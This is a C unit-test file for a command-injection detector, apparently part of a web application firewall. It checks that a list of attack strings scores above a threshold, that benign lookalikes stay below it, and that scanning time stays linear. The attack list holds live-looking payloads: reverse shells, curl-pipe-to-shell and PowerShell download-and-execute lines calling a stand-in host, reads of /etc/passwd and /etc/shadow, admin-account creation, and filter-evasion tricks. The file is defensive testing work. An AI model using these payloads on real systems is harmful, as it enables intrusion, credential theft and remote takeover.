/* Commands: what must be caught, what must pass, and the price of hostile input. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include "base/arena.h"
#include "base/buf.h"
#include "engine/scan.h"
#include "engine/sh_commands.h"
#include "engine/value.h"

enum { THRESHOLD = 30, STEPS_PER_BYTE = 64 };

static int score(struct mln_sv value, enum mln_location loc)
{
    struct mln_arena a;
    struct mln_findings f;
    struct mln_views views;
    struct mln_budget budget = {.steps_left = 1 << 24};

    mln_arena_init(&a, 16 << 20);
    mln_findings_clear(&f);
    mln_value_inspect(&a, value, loc, MLN_SV("q"), &budget, &views, &f);
    mln_arena_done(&a);
    return mln_findings_points(&f, MLN_PROT_CMDI);
}

/* clang-format off */
static const char *const attacks[] = {
    ";id",
    "|id",
    "|id|",
    "&& whoami",
    "|| hostname",
    "; uname -a",
    "| ls -la /",
    "\nwhoami",
    "a=1;ls -l /tmp",
    "8.8.8.8 && cat /etc/hosts",
    "127.0.0.1;id",
    "x'; id #",
    "\"; id; \"",
    "'; uname -a #",
    "$(id)",
    "x$(uname -a)",
    "`whoami`",
    "<(wget http://h.test/x)",
    "$(curl http://h.test/x)",
    "a;wget http://h.test/s.sh -O /tmp/s",
    "|curl http://h.test/s.sh|sh",
    "cat /etc/passwd",
    "ping -c 3 127.0.0.1",
    "wget http://h.test/a -O /tmp/z",
    "nc -e /bin/sh 10.0.0.1 4444",
    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    "python -c 'import os'",
    "perl -e 'print 1'",
    "php -r 'echo 1;'",
    ";c''at /etc/passwd",
    ";ca\\t /etc/passwd",
    ";{cat,/etc/passwd}",
    ";cat${IFS}/etc/passwd",
    ";cat$IFS/etc/passwd",
    ";/?"
    "?"
    "?/c?t /etc/passwd",
    ";/bin/ls",
    "|/usr/bin/id",
    "/etc/pas[s]wd",
    "a=ls;b=/tmp;$a $b",
    "c=nc&&$c -lvp 99",
    "v=$(cat /tmp/x); echo $v",
    "1; x=$(echo QQ); if [ 2 -ne ${#x} ]; then sleep 0; else sleep 4; fi",
    "\nif [ 1 -eq 2 ]\nthen sleep 3\nfi",
    "|echo ABC$((12+34))$(echo ABC)ABC",
    "& sleep 5 &",
    "; sleep 10 #",
    "|sleep 3",
    ";timeout 5",
    "& ping -n 3 10.0.0.1",
    "& p^ing -n 3 10.0.0.1",
    "| dir c:",
    "& net user bob Secret1 /ADD",
    "; net localgroup Administrators bob /ADD",
    "cmd /c dir",
    "cmd.exe /c whoami",
    "|powershell -enc SQBFAFgA",
    "powershell -nop -c \"IEX(New-Object Net.WebClient).DownloadString('http://h.test/a')\"",
    "%COMSPEC% /c dir",
    "for %i in (*.txt) do type %i",
    "FOR /F \"tokens=1\" %%a IN (list.txt) DO echo %%a",
    "IF EXIST c.txt (del c.txt)",
    "if %ERRORLEVEL% EQU 0 goto end",
    "if not defined FOO echo x",
    "| echo hello > shell.php",
    "x || echo db 90 90 >> a.bin",
    ";htop",
    "sudo cat /etc/shadow",
    "; nohup nc -lp 80 -e /bin/sh",
    "id=1|cat /etc/hosts",
    "page=|cat /etc/passwd|",
    "|cat+/etc/passwd",
    "\"&uname\\x09>x\\x09#",
};

static const char *const lookalikes[] = {
    "AT&T",
    "R&D sort of thing",
    "Tom & find Jerry",
    "lunch; time to go",
    "cat food",
    "a | b",
    "a|b|c",
    "x;y",
    "id|name|date",
    "name|id|type",
    "$(document).ready(function(){})",
    "$('#id').show()",
    "$(window).on('load', f)",
    "Ask who; which one?",
    "use `ls` to list",
    "C:\\tools\\more",
    "home & garden",
    "cut & paste",
    "copy & paste",
    "more & more",
    "rock & roll",
    "salt & pepper; oil",
    "find -- a friend",
    "sort by date",
    "sleep well",
    "then sleep 8 hours",
    "black & white",
    "date; time; place",
    "top 10 | best of",
    "news | sport | weather",
    "?id=1&sort=a&find=b",
    "a=1&id=2&test=3&file=x",
    "text/html;q=0.9,*/*;q=0.8",
    "multipart/form-data; boundary=x",
    "theme=dark; lang=en; id=5",
    "Mozilla/5.0 (X11; Linux x86_64)",
    "a && b || c",
    "if (a<b && c>d) return",
    "x = y | z;",
    "var a = 1; var b = 2;",
    "for (i = 0; i < n; i++) { s += i; }",
    "if you exist, you think",
    "if defined as such, it holds",
    "if 2 is equal to 2",
    "for sale in Paris (France) do call",
    "| id | name |\n|----|------|\n| 1 | Bob |",
    "{ user { id name } }",
    "query {\n  node {\n    id\n    ...Fields\n  }\n}",
    "SELECT `id`, `name` FROM `users`",
    "echo of the past",
    "ping me tomorrow",
    "kill your darlings; less is more",
    "man vs. wild | live",
    "the path is a/b/c",
    "john@example.org; jane@example.org",
    "10:30; 11:45",
    "mysql | specific request",
    "tar and feathers",
    "I like curl; it is nice",
    "    at f (https://h.test/a.js:1:2)",
    "$100 & up",
    "3 > 2; 1 < 4",
    "Q&A",
    "M&S",
    "a & b",
    "<b>bold</b>; <i>it</i>",
    "100% sure; no doubt",
    "v1..v2 | diff",
    "user@host:~ is a prompt",
};
/* clang-format on */

static void test_attacks_reach_the_threshold(void **state)
{
    (void)state;
    for (size_t i = 0; i < MLN_ARRAY_LEN(attacks); i++)
        if (score(mln_sv_str(attacks[i]), MLN_LOC_QUERY) < THRESHOLD)
            print_error("not caught: %s\n", attacks[i]);
    for (size_t i = 0; i < MLN_ARRAY_LEN(attacks); i++)
        assert_true(score(mln_sv_str(attacks[i]), MLN_LOC_QUERY) >= THRESHOLD);
}

static void test_lookalikes_stay_below(void **state)
{
    (void)state;
    for (size_t i = 0; i < MLN_ARRAY_LEN(lookalikes); i++)
        if (score(mln_sv_str(lookalikes[i]), MLN_LOC_QUERY) >= THRESHOLD)
            print_error("a false alarm: %s\n", lookalikes[i]);
    for (size_t i = 0; i < MLN_ARRAY_LEN(lookalikes); i++)
        assert_true(score(mln_sv_str(lookalikes[i]), MLN_LOC_QUERY) < THRESHOLD);
}

/* The detector alone, on one view, may take 64 steps a byte. */
static void test_steps_are_linear(void **state)
{
    static const char *const units[] = {";echo>>a", ";[ ", ";for ", "a=$(",  ";$a ",
                                        "`",        "|",   "{a,",   "$((1+", ";ls "};

    (void)state;
    for (size_t i = 0; i < MLN_ARRAY_LEN(units); i++) {
        struct mln_buf b = {0};
        struct mln_findings f;
        while (b.len < 65536)
            mln_buf_add_str(&b, units[i]);
        struct mln_sv s = mln_buf_sv(&b);
        struct mln_budget budget = {.steps_left = (uint64_t)STEPS_PER_BYTE * s.len};
        struct mln_detect_ctx ctx = {.loc = MLN_LOC_QUERY, .budget = &budget};
        struct mln_view v = {
            .p = (const uint8_t *)s.p, .n = (uint32_t)s.len, .classes = mln_byte_classes(s)};
        mln_findings_clear(&f);
        mln_detect_cmdi(&v, &ctx, &f);
        assert_false(budget.exhausted);
        mln_buf_done(&b);
    }
}

static void test_user_agents_are_no_commands(void **state)
{
    static const char *const agents[] = {
        "Mozilla/5.0 (Windows; U; Windows NT 5.1; id; rv:1.9) Gecko/20090101",
        "Mozilla/5.0 (X11; U; Linux x86_64; nl; rv:1.9)",
        "Mozilla/5.0 (compatible; curl/7; +http://example.org/bot)",
        "Mozilla/4.0 (compatible; Polaris 6.2; BREW 3.1.5; U; en)/240X400",
    };

    (void)state;
    for (size_t i = 0; i < MLN_ARRAY_LEN(agents); i++)
        assert_true(score(mln_sv_str(agents[i]), MLN_LOC_HEADER) < THRESHOLD);
    assert_true(score(MLN_SV("Mozilla/5.0 (x; cat /etc/passwd)"), MLN_LOC_HEADER) >= THRESHOLD);
}

static void assert_is_command(void *n, struct mln_sv name)
{
    assert_int_not_equal(mln_sh_command(name), MLN_SH_NONE);
    ++*(unsigned *)n;
}

static void test_each_command_is_found(void **state)
{
    unsigned n = 0;

    (void)state;
    mln_sh_commands_each(assert_is_command, &n);
    assert_true(n > 800);
    assert_int_not_equal(mln_sh_command(MLN_SV("CuRL")), MLN_SH_NONE);
    assert_int_equal(mln_sh_command(MLN_SV("curk")), MLN_SH_NONE);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_attacks_reach_the_threshold),
        cmocka_unit_test(test_lookalikes_stay_below),
        cmocka_unit_test(test_steps_are_linear),
        cmocka_unit_test(test_each_command_is_found),
        cmocka_unit_test(test_user_agents_are_no_commands),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
